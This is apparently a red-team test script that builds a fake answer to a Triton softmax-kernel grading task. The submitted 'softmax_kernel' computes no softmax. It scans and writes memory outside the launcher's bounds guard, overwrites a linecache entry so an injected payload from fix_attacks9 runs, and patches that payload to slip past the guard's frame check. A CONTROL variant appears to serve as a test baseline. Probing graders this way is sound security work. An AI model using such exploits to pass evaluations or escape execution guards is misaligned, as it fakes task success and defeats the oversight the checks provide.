"""Red team 12: REPORT9 S1 (the linecache '#' of a helper's line overwritten from a 7.1 kernel)
again under the launcher's bounds guard, through REPORT12 B1: every load and store of the scan
uses pointers of type [1, M, 1] whose data is (M, M, 1) and a mask whose data is (M, 1, 1) (made
by the interpreter's ``.T``); the guard checks rows 1.. (inside x/out), the interpreter's C++
accesses row 0 (the scan's addresses). The kernel itself computes no softmax."""
import fix_attacks9
from fix_attacks9 import RESTORE, W1, W2, W3, W4

# fix_attacks9's payload, but the launcher's frame is the first `launch` that holds `out` (the
# guard's own GridExecutor wrapper is also called `launch`)
_OLD, _NEW = "f.f_code.co_name != 'launch'", "(f.f_code.co_name != 'launch' or 'out' not in f.f_locals)"
PAYLOAD = fix_attacks9.PAYLOAD.replace(_OLD, _NEW)
HELPER_LINE = fix_attacks9.HELPER_LINE.replace(_OLD, _NEW)
HELPER_LINE_B = fix_attacks9.HELPER_LINE_B.replace(_OLD, _NEW)
assert PAYLOAD in HELPER_LINE and PAYLOAD != fix_attacks9.PAYLOAD

BODY = '''
@triton.jit
def lk_col(v):
    # (M, M, 1) data of type [1, M, 1] -> row 0 as a mask of data (M, 1, 1), type [1, M, 1]
    r = tl.max(tl.where(v, 1, 0), axis=0)
    return (tl.reshape(r, (1, 1, M)) != 0).T


@triton.jit
def lk_scan(out_ptr, in_ptr, pid, start, WANT):
    i = tl.arange(0, M)
    a = i[None, None, :].T
    b = i[None, :, None]
    row = a + b * 0
    col = b + a * 0
    top = row == 0
    words = in_ptr.to(tl.pointer_type(tl.int64))
    gap = in_ptr.to(tl.int64) - out_ptr.to(tl.int64)
    first = (i >= 1)[None, None, :].T
    w = tl.where(top, col + start, 0)
    ok = first & lk_col(tl.load(words + tl.where(top, w - 1, 0), mask=first) == 0)
    ok = ok & lk_col(tl.load(words + w, mask=ok) == W1)
    ok = ok & lk_col(tl.load(words + tl.where(top, w + 1, 0), mask=ok) == W2)
    ok = ok & lk_col(tl.load(words + tl.where(top, w + 2, 0), mask=ok) == WANT)
    at = out_ptr.to(tl.pointer_type(tl.uint8)) + tl.where(top, gap + w * 8 + 12, 0)
    tl.store(at, (row * 0 + 32).to(tl.uint8), mask=ok)


@triton.jit
def softmax_kernel(out_ptr, in_ptr, n_cols, in_stride, out_stride, BLOCK: tl.constexpr):
    pid = tl.program_id(0)
    if pid != 0:
        return
    for k in range(0, STEPS):
        lk_scan(out_ptr, in_ptr, pid, -(k + 1) * M, W3)
    lk_a(pid)
    ran = tl.load(out_ptr)
    if ran == ran:
        return
    for k in range(0, STEPS):
        lk_scan(out_ptr, in_ptr, pid, k * M, W4)
    lk_b(pid)
'''

ANSWER = f'''import triton
import triton.language as tl

M = 256
STEPS = 4096
W1 = {W1}
W2 = {W2}
W3 = {W3}
W4 = {W4}


@triton.jit
def lk_a(x):
{HELPER_LINE}
    return x


@triton.jit
def lk_b(x):
{HELPER_LINE_B}
    return x
''' + BODY

CONTROL = ANSWER.replace(PAYLOAD, RESTORE)
assert CONTROL != ANSWER
